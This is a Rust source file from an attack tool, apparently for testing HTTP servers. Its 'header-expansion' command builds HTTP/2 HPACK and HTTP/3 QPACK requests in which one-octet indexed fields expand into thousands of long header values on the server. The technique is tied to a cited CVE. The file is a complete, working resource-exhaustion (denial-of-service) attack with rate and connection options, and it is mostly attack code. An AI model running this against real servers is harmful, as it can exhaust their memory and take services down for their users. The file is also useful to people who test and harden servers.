//! Fields that are short on the wire and long when they are read (HPACK, RFC 7541, section 7.3; QPACK, RFC 9204,
//! section 7.3; CVE-2025-64702 in one stack).

use std::io::Write;

use clap::Args;
use serde_json::json;

use super::feed::{self, H2, Load};
use crate::caps::Held;
use crate::context::{Common, Context, Protocol, SetupError};
use crate::http::{h2, h3};
use crate::outcome::Outcome;
use crate::quic::QuicSession;
use crate::quic_wire::transport_parameters::Stated;

/// Name and value of the field that HPACK's dynamic table keeps: with the 32 octets that an entry counts besides, they
/// fill the 4,096 that it has.
const NAME: &str = "x-long";
const VALUE_OCTETS: usize = 4096 - 32 - NAME.len();
/// `strict-transport-security: max-age=31536000; includesubdomains; preload`: the longest field of QPACK's static table
/// that takes one octet.
const LONGEST: usize = 58;
const LONGEST_OCTETS: usize = 25 + 44;

/// Requests whose fields take an octet each on the wire and many when they are read
///
/// A start is a request with --fields fields. Over HTTP/2 each stands for a field of 4,064 octets that the server was told
/// once (HPACK's dynamic table). Over HTTP/3 each stands for a field of 69 octets of QPACK's static table, which needs
/// no leave of the server.
#[derive(Args, Clone, Debug)]
#[command(after_long_help = "Examples:
  gauntlet-attacker header-expansion --target 127.0.0.1:4433 --protocol h2 --rate 10 --fields 4000
  gauntlet-attacker header-expansion --target 127.0.0.1:4433 --protocol h3 --rate 100 --fields 4000")]
pub struct HeaderExpansion {
    #[command(flatten)]
    common: Common,
    /// Connections that starts are made on in turn
    #[arg(long, default_value = "1", value_name = "COUNT")]
    connections: Held,
    /// Fields of a request besides the usual ones
    #[arg(long, default_value_t = 4000, value_name = "COUNT", value_parser = clap::value_parser!(u32).range(1..=12_000))]
    fields: u32,
}

impl HeaderExpansion {
    /// Runs it.
    ///
    /// # Errors
    /// If it cannot begin, or a line cannot be written.
    pub async fn run(&self, out: &mut dyn Write) -> Result<(), SetupError> {
        let context = Context::new(&self.common, &[Protocol::H2, Protocol::H3])?;
        let (connections, fields) = (self.connections.count(), self.fields as usize);
        let read = |octets: usize| context.tally.fact("octets_read_per_request", json!(octets * fields));
        if context.protocol == Protocol::H2 {
            read(NAME.len() + VALUE_OCTETS);
            feed::run::<OverH2>(&context, connections, fields, out).await
        } else {
            read(LONGEST_OCTETS);
            feed::run::<OverH3>(&context, connections, fields, out).await
        }
    }
}

struct OverH2 {
    connection: H2,
    /// Whether the server was told the long field.
    told: bool,
}

impl Load for OverH2 {
    type Options = usize;

    async fn open(context: &Context, _: &usize) -> Result<Self, Outcome> {
        Ok(Self { connection: H2::open(context).await?, told: false })
    }

    fn start(&mut self, context: &Context, fields: &usize) -> Result<(), Outcome> {
        let stream = self.connection.next_stream()?;
        let mut block = h2::fields("GET", &context.host, &context.path);
        if !std::mem::replace(&mut self.told, true) {
            h2::put_remembered(&mut block, NAME, &[b'a'; VALUE_OCTETS]);
        }
        // What a frame holds unless the server allows more (RFC 9113, section 4.2).
        let room = 16_384 - block.len();
        block.resize(block.len() + fields.min(&room), h2::REMEMBERED);
        let flags = h2::flag::END_HEADERS | h2::flag::END_STREAM;
        h2::put_frame(&mut self.connection.out, h2::kind::HEADERS, flags, stream, &block);
        Ok(())
    }

    async fn turn(&mut self) -> Result<(), Outcome> {
        self.connection.turn().await
    }
}

struct OverH3(QuicSession);

impl Load for OverH3 {
    type Options = usize;

    async fn open(context: &Context, _: &usize) -> Result<Self, Outcome> {
        feed::open_quic(context, &Stated::default()).await.map(Self)
    }

    fn start(&mut self, context: &Context, fields: &usize) -> Result<(), Outcome> {
        let mut block = h3::fields("GET", &context.host, &context.path);
        for _ in 0..*fields {
            h3::put_indexed(&mut block, LONGEST);
        }
        let mut request = Vec::with_capacity(block.len() + 4);
        h3::put_frame(&mut request, h3::HEADERS, &block);
        feed::request_quic(&mut self.0.client, &request, true).map(drop)
    }

    async fn turn(&mut self) -> Result<(), Outcome> {
        feed::turn_quic(&mut self.0).await
    }
}
